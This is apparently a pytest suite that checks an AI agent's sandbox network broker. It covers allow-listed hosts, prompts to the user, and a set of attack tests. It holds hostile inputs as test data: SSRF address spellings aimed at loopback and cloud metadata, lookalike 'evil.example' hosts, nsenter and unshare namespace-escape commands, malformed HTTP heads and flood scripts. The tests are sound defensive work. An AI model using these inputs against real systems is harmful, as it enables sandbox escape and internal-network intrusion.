"""What commands in the box reach of the network: through the broker alone, by the table and the answers of the user."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import os
import re
import resource
import shlex
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from hermes_agent.policy import Refusal
from hermes_agent.workspace.egress import broker, destinations, namespace_process
from hermes_agent.workspace.egress.broker import BadHead, BrokerLimits, parse_head
from hermes_agent.workspace.task_shells import TaskShells

FULL = pytest.mark.skipif(not os.environ.get("HERMES_ATTACK_FULL"), reason="`make attack` runs it")
"""Of a case that repeats another one with other settings."""

CLIENT = """
import socket, sys
kind, host, port, *said = sys.argv[1:]
s = socket.socket() if kind != "named" else None
if kind == "proxy":
    s.connect(("198.18.0.1", 80))
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode())
    head = s.recv(65536).decode()
    print(head.splitlines()[0])
    if " 200 " not in head:
        sys.exit(print(head.splitlines()[-1]))
elif kind == "named":
    s = socket.create_connection((host, int(port)), timeout=10)
else:
    s.connect((host, int(port)))
s.sendall(" ".join(said).encode() or b"ping")
s.shutdown(socket.SHUT_WR)
print("answer", s.makefile().read())
"""
EACH = """
import json, sys
program = compile(open("client.py").read(), "client.py", "exec")
for words in json.loads(sys.argv[1]):
    print("tried", words, flush=True)
    sys.argv[1:] = words
    try:
        exec(program, {})
    except (Exception, SystemExit) as exc:
        print("failed", exc, flush=True)
"""
"""Runs the client with each list of words, in one interpreter."""


@dataclass
class Server:
    """A server on this machine that says what it was told."""

    port: int
    told: list[bytes] = field(default_factory=list)


@pytest.fixture
def server() -> Iterator[Server]:
    listening = socket.create_server(("127.0.0.1", 0))
    made = Server(listening.getsockname()[1])

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                one, _ = listening.accept()
                threading.Thread(target=answer, args=(one,), daemon=True).start()

    def answer(one: socket.socket) -> None:
        with one, contextlib.suppress(OSError):
            data = one.recv(65536)
            made.told.append(data)
            one.sendall(b"told " + data)

    serving = threading.Thread(target=serve, daemon=True)
    serving.start()
    yield made
    listening.shutdown(socket.SHUT_RDWR)
    serving.join()
    listening.close()


@pytest.fixture
def networked(place_with) -> Callable[..., object]:
    """Makes a workplace in the box of bubblewrap, with a mode and a list of hosts."""

    def make(mode: str, *hosts: str, deny: Sequence[str] = (), more: str = ""):
        settings = {"terminal": {"sandbox": "bwrap", "network": mode}, "network": {"hosts": hosts, "deny": deny}}
        place = place_with(json.dumps(settings) + more)
        sandbox = place.registry.get("terminal").handler.loaded.shells.backend.sandbox
        if not sandbox.works:
            pytest.skip(f"no sandbox can be made here: {sandbox.problem}")
        (place.cwd / "client.py").write_text(CLIENT)
        (place.cwd / "each.py").write_text(EACH)
        return place

    return make


def networks_of(place):
    return place.registry.get("terminal").handler.loaded.shells.networks


def client(place, kind: str, host: str, port: int, said: str = "") -> str:
    result = place.call("terminal", command=f"python3 client.py {kind} '{host}' {port} {said} 2>&1", timeout=30)
    return f"{result['output']}{result.get('note', '')}"


def each(place, *tried: list[str]) -> list[str]:
    """Return what the client printed for each list of words."""
    command = f"python3 each.py {shlex.quote(json.dumps(tried))} 2>&1"
    said = place.call("terminal", command=command, timeout=120)["output"].split("tried ")[1:]
    assert len(said) == len(tried), said
    return said


# -- the ways through ----------------------------------------------------------------------------------------


def test_a_listed_host_is_reached_through_the_proxy(networked, server, resolving, caplog):
    caplog.set_level(logging.INFO)
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("hosts", f"site.example:{server.port}", "127.0.0.0/8:*")
    assert client(place, "proxy", "site.example", server.port, "hello") == (
        "HTTP/1.1 200 Connection established\nanswer told hello\n"
    )
    (line,) = [r.getMessage() for r in caplog.records if r.getMessage().startswith("network: session")]
    sizes = "sent=5 received=10 verdict=allowed"
    assert line == f"network: session=s tool=terminal host=site.example port={server.port} {sizes}"


def test_a_request_with_a_whole_address_is_passed_on_without_what_is_for_the_proxy(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("hosts", f"site.example:{server.port}", "127.0.0.0/8:*")
    (place.cwd / "ask.py").write_text(
        "import socket\ns = socket.create_connection(('198.18.0.1', 80))\n"
        f"s.sendall(b'GET http://Site.Example:{server.port}/a?b=c HTTP/1.1\\r\\nHost: other.example\\r\\n'\n"
        "  b'Proxy-Authorization: Basic eDp5\\r\\nConnection: keep-alive\\r\\nX-Mine: 1\\r\\n\\r\\n')\n"
        "print(s.recv(99))\n"
    )
    place.call("terminal", command="python3 ask.py")
    wanted = f"GET /a?b=c HTTP/1.1\r\nHost: Site.Example:{server.port}\r\nX-Mine: 1\r\nConnection: close\r\n\r\n"
    assert server.told == [wanted.encode()]


def test_a_program_that_knows_no_proxy_reaches_a_listed_host_by_its_name(networked, resolving):
    try:
        listening = socket.create_server(("127.0.0.79", 80))
    except OSError as exc:
        pytest.skip(f"port 80 of this machine cannot be had: {exc}")
    resolving["site.example"] = ["127.0.0.79"]
    place = networked("hosts", "site.example", "127.0.0.79")
    with listening:
        threading.Thread(target=lambda: listening.accept()[0].sendall(b"hello"), daemon=True).start()
        found = client(place, "named", "site.example", 80)
    assert found == "answer hello\n"


@pytest.mark.parametrize("mode", ["off", pytest.param("ask", marks=FULL)])
def test_a_server_that_one_command_starts_is_reached_by_the_next(networked, mode):
    place = networked(mode)
    started = place.call("terminal", command="python3 -m http.server 8123", background=True)
    assert started["exit_code"] == 0, started
    fetch = "python3 -c \"import urllib.request as r; print(r.urlopen('http://127.0.0.1:8123/').status)\""
    wait = f"for i in 1 2 3 4 5 6 7 8 9 10; do {fetch} 2>/dev/null && exit; sleep 0.3; done"
    assert place.call("terminal", command=wait, timeout=60)["output"] == "200\n"
    place.task = "another"
    assert place.call("terminal", command=wait.replace("9 10", ""), timeout=60)["output"] == "200\n"
    other = json.loads(place.outcome("terminal", {"command": fetch}, session="other").result)
    assert "refused" in other["output"]


def test_the_model_is_told_what_is_reached(networked):
    (shown,) = (d["function"] for d in networked("hosts").registry.get_definitions(["terminal"]))
    assert "hosts that the operator lists" in shown["description"]


def test_what_does_not_go_through_the_broker_is_named_in_the_result(networked, resolving):
    place = networked("on")
    found = client(place, "named", "site.example", 5432)
    assert "Connection refused" in found
    assert (
        "looked up, and not connected to: site.example (at port 22, 80, 443)" in found
        and "`site.example:5432`" in found
    )


def test_a_program_that_knows_no_proxy_reaches_the_port_of_an_entry(networked, server, resolving, caplog):
    caplog.set_level(logging.INFO)
    resolving |= {"db.example": ["127.0.0.1"], "other.example": ["127.0.0.1"]}
    place = networked("hosts", f"db.example:{server.port}", "other.example:5", "127.0.0.0/8:*")
    assert client(place, "named", "db.example", server.port, "x") == "answer told x\n"
    assert f"host=db.example port={server.port} sent=1 received=6 verdict=allowed" in caplog.text
    assert client(place, "named", "db.example", server.port, "again") == "answer told again\n"
    found = client(place, "named", "other.example", server.port, "x")
    assert "refused" in found and "other.example (at port 5, 22, 80, 443)" in found
    own = f"import socket; socket.create_server(('127.0.0.1', {server.port})); print('free')"  # the port is the host's
    assert place.call("terminal", command=f'python3 -c "{own}"')["output"] == "free\n"
    assert server.told == [b"x", b"again"]


def test_a_port_that_a_command_has_itself_is_named_in_the_result(networked, server, resolving):
    resolving["db.example"] = ["127.0.0.1"]
    place = networked("hosts", f"db.example:{server.port}", "127.0.0.0/8:*")
    listen = f"import socket; s = socket.create_server(('0.0.0.0', {server.port}))"
    command = f"python3 -c \"{listen}; socket.getaddrinfo('db.example', 1)\""
    note = place.call("terminal", command=command)["note"]
    assert f"db.example:{server.port}: Address already in use: a proxy reaches it" in note


@pytest.mark.attack("egress")
def test_a_command_opens_a_bounded_number_of_ports(networked, attempt):
    place = networked("hosts", "*.evil.example:8001", "*.evil.example:8002")
    networks_of(place).limits = BrokerLimits(further_ports=3)
    names = "; ".join(f"getent hosts n{number}.evil.example" for number in range(4))
    place.call("terminal", command=names)
    (network,) = networks_of(place)._known.values()
    attempt(len(network.broker._further) == 3, str(network.broker._further))


# -- who is asked --------------------------------------------------------------------------------------------


def test_the_user_is_asked_about_a_host_once_for_many_connections(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("ask", "127.0.0.0/8:*")
    one = f"python3 client.py proxy site.example {server.port} x"
    result = place.call("terminal", command=f"for i in 1 2 3 4 5 6; do {one} & done; wait")
    assert result["output"].count("answer told x") == 6
    (asked,) = place.person.asked
    assert asked.summary == f"let commands reach site.example:{server.port}" and "client.py" in asked.detail
    assert asked.answers == ("once", "session", "always", "deny")


def test_once_is_for_one_call_and_session_for_those_that_follow(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("ask", "127.0.0.0/8:*")
    for answer, questions in (("once", 1), ("session", 2), ("deny", 2)):
        place.person.answer = answer
        assert "answer told x" in client(place, "proxy", "site.example", server.port, "x")
        assert len(place.person.asked) == questions


def test_always_is_written_into_the_table(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("ask", "127.0.0.0/8:*")
    place.person.answer = "always"
    client(place, "proxy", "site.example", server.port, "x")
    text = (place.home / "config.yaml").read_text()
    assert f"site.example:{server.port}" in text and "127.0.0.0/8:*" in text


def test_a_no_is_a_no_for_the_whole_call(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("ask", "127.0.0.0/8:*")
    place.person.answer = "deny"
    one = f"python3 client.py proxy site.example {server.port} x"
    result = place.call("terminal", command=f"{one}; {one}")
    assert server.told == [] and len(place.person.asked) == 1
    assert result["output"].count("HTTP/1.1 403 Forbidden") == 2 and "The user denied" in result["note"]


def test_where_nobody_can_be_asked_the_answer_is_no(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("ask", "127.0.0.0/8:*")
    place.person.answer = Refusal("no user can be asked in a test")
    assert "no user can be asked in a test" in client(place, "proxy", "site.example", server.port)
    assert server.told == []


def test_a_question_ends_with_its_command(networked, resolving):
    place = networked("ask")
    withdrawn = threading.Event()

    async def ask(request):
        try:
            await asyncio.sleep(60)
        finally:
            withdrawn.set()

    place.person.ask = ask
    place.approvals._timeout_s = 60
    result = place.call("terminal", command="python3 client.py proxy site.example 443", timeout=2)
    assert result["exit_code"] == 124 and withdrawn.wait(5)


def test_an_interrupt_ends_command_and_question(networked, resolving):
    place = networked("ask")

    async def ask(request):
        place.cancelled.set()
        await asyncio.sleep(60)

    place.person.ask = ask
    place.approvals._timeout_s = 60
    began = time.monotonic()
    result = place.call("terminal", command="python3 client.py proxy site.example 443")
    assert result["exit_code"] == 130 and time.monotonic() - began < 20


# -- attacks -------------------------------------------------------------------------------------------------

SPELLINGS = [
    "127.0.0.1", "127.1", "0x7f.1", "2130706433", "017700000001", "[::1]", "[::ffff:127.0.0.1]", "localhost",
    "LOCALHOST.", "0", "0.0.0.0", "[::]", "10.0.0.1", "192.168.0.1", "169.254.169.254", "0xa9fea9fe", "[fe80::1]",
    "metadata.google.internal", "METADATA.GOOGLE.INTERNAL.", "100.100.100.200", "[fd00:ec2::254]", "224.0.0.1",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "198.18.0.1", "255.255.255.255",
]  # fmt: skip


@pytest.mark.attack("egress", at="bubblewrap")
@pytest.mark.parametrize("mode", ["on", pytest.param("ask", marks=FULL)])
def test_no_spelling_leads_to_this_machine_or_its_network(networked, server, mode, attempt):
    place = networked(mode)
    answers = each(place, *(["proxy", host, str(server.port), "x"] for host in SPELLINGS))
    for host, answer in zip(SPELLINGS, answers, strict=True):
        attempt("\nHTTP/1.1 " in answer and "\nHTTP/1.1 200" not in answer, f"{host}: {answer}")
    assert server.told == []


LOOKALIKES = [
    *(
        "evil.example",
        "site.example.evil.example",
        "evil-site.example",
        "site.example@evil.example",
        "xn--site-.example",
    ),
    *("evil.example#site.example", "evil.example:80@site.example", "sıte.example", "site.example%00.evil.example"),
    *("*", "site", "site.example.example", "a.site.example", "[::ffff:127.0.0.1]"),
]


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_host_that_only_looks_like_a_listed_one_is_refused(networked, server, resolving, attempt):
    resolving |= {name: ["127.0.0.1"] for name in (*LOOKALIKES, "site.example")}
    place = networked("hosts", f"site.example:{server.port}", "127.0.0.0/8:1")
    tried = [[kind, host, str(server.port), "x"] for host in LOOKALIKES for kind in ("proxy", "named")]
    for words, said in zip(tried, each(place, *tried), strict=True):
        attempt("answer" not in said, str(words))
    assert server.told == []


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_name_that_leads_to_a_private_address_is_refused_each_time(networked, server, resolving):
    place = networked("hosts", f"*.evil.example:{server.port}")
    resolving["a.evil.example"] = ["127.0.0.1"]
    assert "127.0.0.1 is not a public address" in client(place, "proxy", "a.evil.example", server.port, "x")
    resolving["b.evil.example"] = ["93.184.215.14", "127.0.0.1"]  # looked up once: what was judged is asked
    place.call("terminal", command=f"timeout 2 python3 client.py proxy b.evil.example {server.port} x", timeout=30)
    assert resolving["b.evil.example"] == ["127.0.0.1"] and server.told == []


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_denied_host_is_refused_though_everything_is_on(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("on", "site.example:*", "127.0.0.0/8:*", deny=["site.example"])
    assert "`network.deny` names it" in client(place, "proxy", "site.example", server.port, "x")
    assert server.told == []


WAYS_OUT = {
    "an address without the broker": "python3 client.py direct 1.1.1.1 443",
    "this machine's loopback": "python3 client.py direct 127.0.0.1 {port} x",
    "a datagram": "python3 -c \"import socket; socket.socket(type=2).sendto(b'x', ('1.1.1.1', 53))\"",
    "a raw socket": 'python3 -c "import socket; socket.socket(2, 3, 1)"',
    "a packet socket": 'python3 -c "import socket; socket.socket(17, 3, 0)"',
    "a device": "python3 -c \"import socket, fcntl; fcntl.ioctl(socket.socket(), 0x8914, b'lo'.ljust(40, b'\\0'))\"",
    "a port of the broker's": "python3 -c \"import socket; s = socket.socket(); s.bind(('127.0.0.1', 25))\"",
    "the namespace of the first process": "nsenter --net=/proc/1/ns/net python3 client.py direct 127.0.0.1 {port} x",
    "the namespaces of the agent": "nsenter --net=/proc/{pid}/ns/net python3 client.py direct 127.0.0.1 {port} x",
    "a namespace of its own": "unshare -Urn true && unshare -n true",
}


@pytest.mark.attack("egress", at="bubblewrap")
@pytest.mark.parametrize("mode", ["off", "on"])
def test_there_is_no_other_way_out(networked, server, mode, attempt):
    place = networked(mode)
    script = "".join(f"({command}) >/dev/null 2>&1; echo $?\n" for command in WAYS_OUT.values())
    result = place.call("terminal", command=script.format(port=server.port, pid=os.getpid()), timeout=120)
    for what, status in zip(WAYS_OUT, result["output"].split(), strict=True):
        attempt(status != "0", f"{what}: {result}")
    assert server.told == []


@pytest.mark.attack("egress", at="bubblewrap")
def test_the_sockets_of_another_session_are_out_of_reach(networked, attempt):
    place = networked("on")
    places = [(1, "\0hermes-test"), (2, ("127.0.0.1", 8124)), (10, ("::1", 8125))]
    (place.cwd / "listen.py").write_text(
        f"import socket, time\nkept = []\nfor family, place in {places!r}:\n"
        " kept.append(socket.socket(family)); kept[-1].bind(place); kept[-1].listen()\ntime.sleep(60)\n"
    )
    (place.cwd / "connect.py").write_text(
        f"import socket, sys, time\nfor family, place in {places!r}:\n for _ in range(int(sys.argv[1])):\n"
        "  try: socket.socket(family).connect(place); print('reached'); break\n"
        "  except OSError: time.sleep(0.1)\n else: print('refused')\n"
    )
    started = place.call("terminal", command="python3 listen.py", background=True)
    mine = place.call("terminal", command="python3 connect.py 50", timeout=60)
    other = json.loads(place.outcome("terminal", {"command": "python3 connect.py 1"}, session="other").result)
    place.call("process", action="kill", session_id=started["session_id"])
    assert mine["output"] == "reached\n" * 3, mine
    for (_, address), said in zip(places, other["output"].split(), strict=True):
        attempt(said == "refused", str(address))


@pytest.mark.attack("egress", at="bubblewrap")
def test_names_are_asked_of_nobody(networked, resolving, monkeypatch, attempt):
    asked: list[str] = []
    real = socket.getaddrinfo
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *a, **k: (asked.append(str(host)), real(host, *a, **k))[1])
    place = networked("hosts", "site.example")
    place.call("terminal", command="python3 client.py named secret.site.example 443; getent hosts s3cret.evil.example")
    place.call("terminal", command="python3 client.py proxy secret.evil.example 443")
    attempt(not any("secret" in host or "s3cret" in host for host in asked), str(asked))


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_refusal_names_the_host_and_the_setting(networked):
    found = client(networked("hosts", "site.example"), "named", "evil.example", 443)
    assert "evil.example: `network.hosts` does not name it (`terminal.network` is `hosts`)" in found


# -- bounds --------------------------------------------------------------------------------------------------


@pytest.mark.attack("egress", at="bubblewrap")
def test_half_sent_heads_and_too_many_connections_end(networked, server, resolving, attempt):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("hosts", f"site.example:{server.port}", "127.0.0.0/8:*")
    networks_of(place).limits = BrokerLimits(head_s=1.0, connections_per_s=1000)  # a flood is another test
    (place.cwd / "flood.py").write_text(
        "import socket\nopen_ = []\n"
        "for _ in range(200):\n s = socket.create_connection(('198.18.0.1', 80)); open_.append(s)\n"
        " try: s.sendall(b'CONNECT a')\n except OSError: pass\n"
        "ended = 0\n"
        "for s in open_:\n s.settimeout(10)\n try: ended += s.recv(99) == b''\n except ConnectionError: ended += 1\n"
        "print('ended', ended)\n"
    )
    attempt("ended 200" in place.call("terminal", command="python3 flood.py", timeout=60)["output"], "half heads")
    attempt("answer told x" in client(place, "proxy", "site.example", server.port, "x"), "it goes on afterwards")


BAD_HEADS = [
    b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET https://a.example/ HTTP/1.1\r\n\r\n",
    b"GET ftp://a.example/ HTTP/1.1\r\n\r\n",
    b"GET http://user:pw@a.example/ HTTP/1.1\r\n\r\n",
    b"GET http:///path HTTP/1.1\r\n\r\n",
    b"CONNECT a.example HTTP/1.1\r\n\r\n",
    b"CONNECT a.example:0 HTTP/1.1\r\n\r\n",
    b"CONNECT a.example:70000 HTTP/1.1\r\n\r\n",
    b"CONNECT u@a.example:443 HTTP/1.1\r\n\r\n",
    b"CONNECT a.example:443/ HTTP/1.1\r\n\r\n",
    b"CONNECT a.example:443 HTTP/2\r\n\r\n",
    b"CONNECT a b:443 HTTP/1.1\r\n\r\n",
    b"CONNECT [::1:443 HTTP/1.1\r\n\r\n",
    b"CONNECT [v1.x]:443 HTTP/1.1\r\n\r\n",
    b"GET http://a.example/ HTTP/1.1\nHost: b\r\n\r\n",
    b"GET http://a.example/ HTTP/1.1\r\nA b: c\r\n\r\n",
    b"GET http://a.example/ HTTP/1.1\r\nA: b\r\n folded\r\n\r\n",
    b"GET http://a.example/ HTTP/1.1\r\nA: b\nHost: c\r\n\r\n",
    b"GET http://a.example/ HTTP/1.1\r\nA: \0\r\n\r\n",
    b"\xff\xfe\r\n\r\n",
    b"\r\n\r\n",
]


@pytest.mark.attack("egress")
@pytest.mark.parametrize("data", BAD_HEADS)
def test_a_head_that_can_be_read_in_two_ways_is_refused(data):
    with pytest.raises(BadHead):
        parse_head(data)


def test_the_host_of_a_request_is_the_one_of_its_address():
    head = parse_head(b"POST http://A.Example:81/x HTTP/1.1\r\nHost: b\r\nContent-Length: 3\r\n\r\n")
    assert (head.host, head.port) == ("a.example", 81)
    assert head.first == b"POST /x HTTP/1.1\r\nHost: A.Example:81\r\nContent-Length: 3\r\nConnection: close\r\n\r\n"
    assert parse_head(b"GET http://a.example?q HTTP/1.0\r\n\r\n").first.startswith(b"GET /?q HTTP/1.1")
    assert parse_head(b"CONNECT [::1]:443 HTTP/1.1\r\nHost: x\r\n\r\n") == ("::1", 443, b"")


@pytest.mark.attack("egress")
def test_the_name_server_survives_every_datagram(attempt):
    found = broker.NameTable(lambda host: "")
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x07example\x00\x00\x01\x00\x01"
    assert found.answer(question).endswith(b"\x00\x04\xc6\x12\x00\x02") and found.host("198.18.0.2") == "a.example"
    assert found.answer(question[:-3] + b"\x1c\x00\x01")[6:8] == b"\0\0"  # AAAA: there is none
    for cut in range(len(question)):
        attempt(found.answer(question[:cut]) is None, f"cut at {cut}")
    for at in range(len(question)):
        for byte in (0, 0x3F, 0x40, 0xC0, 0xFF):
            found.answer(question[:at] + bytes([byte]) + question[at + 1 :])
    assert found.host("127.0.0.1") is None and found.host("198.19.255.255") is None


@pytest.mark.attack("egress")
def test_a_task_has_a_bounded_number_of_names(attempt):
    found = broker.NameTable(lambda host: "")
    given = [found.address(f"n{number}.example") for number in range(broker.MOST_NAMES + 10)]
    attempt(given[-1] is None and given[broker.MOST_NAMES - 1] is not None, "names")
    assert found.address("n0.example") == given[0] and found.host(str(given[5])) == "n5.example"


def test_nothing_is_left_open(networked, server, resolving):
    resolving["site.example"] = ["127.0.0.1"]
    place = networked("hosts", f"site.example:{server.port}", "127.0.0.0/8:*")
    networks = place.registry.get("terminal").handler.loaded.shells.networks
    client(place, "proxy", "site.example", server.port, "x")  # what is loaded at the first use
    networks.close_all()
    before = sorted(os.listdir("/proc/self/fd"))
    threads = threading.active_count()
    assert "told x" in client(place, "proxy", "site.example", server.port, "x")
    networks.close_all()
    assert len(os.listdir("/proc/self/fd")) <= len(before) + 1 and threading.active_count() <= threads


def test_the_network_that_was_used_longest_ago_is_let_go_of(networked):
    place = networked("on")
    networks_of(place).most = 2
    for session in ("a", "b", "c", "a"):
        assert json.loads(place.outcome("terminal", {"command": "true"}, session=session).result)["exit_code"] == 0
    assert list(networks_of(place)._known) == ["c", "a"]


def test_where_no_namespace_can_be_made_commands_run_without_a_network(place_with, tmp_path, caplog):
    place = place_with("terminal: {sandbox: bwrap, network: 'on'}\n")
    shells = place.registry.get("terminal").handler.loaded.shells
    if not shells.backend.sandbox.works:
        pytest.skip("no sandbox can be made here")
    shells.networks._path = str(tmp_path)
    result = place.call("terminal", command="python3 -c \"import os; print(os.listdir('/sys/class/net'))\"; echo ran")
    assert result["output"].endswith("ran\n") and "no network" in result["note"]
    assert re.search("unshare and nsenter .* are not installed", caplog.text)


def test_an_idle_connection_and_a_long_head_end(networked, monkeypatch):
    place = networked("on")
    (place.cwd / "long.py").write_text(
        "import socket\ns = socket.create_connection(('198.18.0.1', 80))\n"
        f"s.sendall(b'GET http://a.example/ HTTP/1.1\\r\\nA: ' + b'x' * {broker.MAX_HEAD + 99})\nprint(s.recv(40))\n"
    )
    assert "431" in place.call("terminal", command="python3 long.py", timeout=30)["output"]


def test_the_programs_proxies_are_set_and_loopback_is_no_business_of_theirs(networked):
    output = networked("on").call("terminal", command="echo $http_proxy $HTTPS_PROXY $no_proxy")["output"]
    assert output == "http://198.18.0.1:80 http://198.18.0.1:80 localhost,127.0.0.1,::1\n"
    assert Path("/etc/resolv.conf").exists()


# -- costs and kinds of programs -----------------------------------------------------------------------------

PROBE = """
import socket, sys, time
took = []
for _ in range(40):
    began = time.perf_counter()
    s = socket.create_connection(("198.18.0.1", 80))
    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[1].encode())
    s.recv(999); s.sendall(b"x"); s.recv(99)
    took.append(time.perf_counter() - began)
print(min(took))
"""


def test_a_connection_takes_at_most_five_milliseconds_more(networked, server):
    place = networked("hosts", "127.0.0.0/8:*")
    (place.cwd / "probe.py").write_text(PROBE)
    direct = []
    for _ in range(40):
        began = time.perf_counter()
        with socket.create_connection(("127.0.0.1", server.port)) as one:
            one.sendall(b"x")
            one.recv(99)
        direct.append(time.perf_counter() - began)
    through = float(place.call("terminal", command=f"python3 probe.py {server.port}")["output"])
    assert through - min(direct) < 0.005


def test_to_join_the_network_of_the_session_costs_a_command_next_to_nothing(networked):
    place = networked("on")
    box = place.registry.get("terminal").handler.loaded.shells.backend.sandbox.selected
    place.call("terminal", command="true")

    def taken(network: str) -> float:
        """Return the seconds of the processor that ten commands take, which do not depend on what else runs."""
        argv, env = box.wrap(["/bin/true"], str(place.cwd), {"PATH": os.defpath}, root=str(place.cwd), network=network)
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        for _ in range(10):
            subprocess.run(argv, env=env, check=True, timeout=20)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime

    alone, joined = taken(""), taken("s")
    assert (joined - alone) / 10 < 0.01


def test_ssh_connects_by_a_name_alone(networked, resolving):
    if shutil.which("ssh", path="/usr/bin:/bin") is None:
        pytest.skip("there is no ssh")
    try:
        listening = socket.create_server(("127.0.0.78", 22))
    except OSError as exc:
        pytest.skip(f"port 22 of this machine cannot be had: {exc}")
    resolving["forge.example"] = ["127.0.0.78"]
    told: list[bytes] = []

    def serve() -> None:
        one, _ = listening.accept()
        with one:
            one.sendall(b"SSH-2.0-test\r\n")
            told.append(one.recv(99))

    with listening:
        threading.Thread(target=serve, daemon=True).start()
        place = networked("hosts", "forge.example", "127.0.0.78")
        place.person.answer = "once"
        place.call("terminal", command="git clone git@forge.example:a/b.git", timeout=30)
    assert told and told[0].startswith(b"SSH-2.0-OpenSSH")


@pytest.mark.parametrize(
    "command", ["git clone https://site.example/a.git", "curl -sO https://site.example/a", "pip download a-package"]
)
def test_with_ask_the_host_is_the_only_question(networked, resolving, command):
    place = networked("ask")
    place.person.answer = "deny"
    if command.startswith("pip"):
        command = "python3 client.py proxy site.example 443"  # what pip does first
    place.call("terminal", command=command, timeout=30)
    assert [request.summary for request in place.person.asked] == ["let commands reach site.example"]


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_command_does_not_wear_the_user_down(networked, attempt):
    place = networked("ask")
    place.person.answer = "deny"
    each(place, *(["proxy", f"h{number}.example", "443"] for number in range(25)))
    attempt(len(place.person.asked) == destinations.MOST_ASKED, f"{len(place.person.asked)} questions")


@pytest.mark.attack("egress", at="bubblewrap")
def test_all_sessions_together_have_a_bounded_number_of_connections(networked, attempt):
    place = networked("on")
    networks_of(place).limits = BrokerLimits(all_connections=3, head_s=2.0)
    (place.cwd / "hold.py").write_text(
        "import socket, time\nheld = [socket.create_connection(('198.18.0.1', 80)) for _ in range(6)]\n"
        "time.sleep(0.5)\nended = 0\n"
        "for s in held:\n s.setblocking(False)\n"
        " try: ended += s.recv(9) == b''\n except BlockingIOError: pass\n except ConnectionError: ended += 1\n"
        "print(ended)\n"
    )
    attempt(place.call("terminal", command="python3 hold.py")["output"] == "3\n", "six connections")


def test_the_host_leads_its_commands_through_the_broker():
    from hermes_agent.testing import plugin_host

    config = {"terminal": {"sandbox": "bwrap", "network": True}, "network": {"deny": ["evil.example"]}}
    with plugin_host(lambda ctx: None, config=config) as host:
        if not host.host.service(TaskShells).backend.sandbox.works:
            pytest.skip("no sandbox can be made here")
        result = host.dispatch_tool("terminal", {"command": "getent hosts evil.example || getent hosts other.example"})
        assert "198.18.0." in result and "evil.example: `network.deny` names it" in result


@pytest.mark.skipif(os.getuid() != 0 or not shutil.which("setpriv"), reason="only root can be somebody else")
def test_a_user_without_rights_makes_a_network_too():
    ours, theirs = socket.socketpair()
    source = Path(namespace_process.__file__).read_text()
    as_nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]
    words = ["unshare", "--user", "--map-current-user", "--net", "--keep-caps", "--", "/usr/bin/python3", "-I", "-c"]
    with ours, theirs:
        subprocess.run([*as_nobody, *words, source, "open"], stdin=theirs, check=True, timeout=20)
        _, fds, _, _ = socket.recv_fds(ours, 1, 9)
    assert len(fds) == len(namespace_process.PORTS) + 3
    ours, theirs = socket.socketpair()
    with ours, theirs:
        later = ["/usr/bin/python3", "-I", "-c", source, "at", str(fds[0]), str(fds[1]), "198.18.0.5", "5432"]
        subprocess.run([*as_nobody, *later], stdin=theirs, check=True, timeout=20, pass_fds=fds[:2])
        _, more, _, _ = socket.recv_fds(ours, 1, 1)
    with socket.socket(fileno=more[0]) as listening:
        assert listening.getsockname() == ("198.18.0.5", 5432)
    for fd in fds:
        os.close(fd)


@pytest.mark.attack("egress", at="bubblewrap")
def test_a_flood_does_not_keep_the_agent_busy(networked, attempt):
    place = networked("on")
    (place.cwd / "flood.py").write_text(
        "import socket, time\nend = time.monotonic() + 3\n"
        "names = socket.socket(type=2); names.setblocking(False)\n"
        "question = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x01a\\x07example\\0\\0\\x01\\0\\x01'\n"
        "while time.monotonic() < end:\n"
        " for _ in range(50):\n  try: names.sendto(question, ('127.0.0.1', 53))\n  except OSError: pass\n"
        " s = socket.socket(); s.setblocking(False); s.connect_ex(('198.18.0.1', 80)); s.close()\n"
    )
    place.call("terminal", command="true")
    before = time.process_time()
    place.call("terminal", command="python3 flood.py", timeout=30)
    took = time.process_time() - before
    attempt(took < 0.4, f"{took:.1f} s of the processor in three seconds")
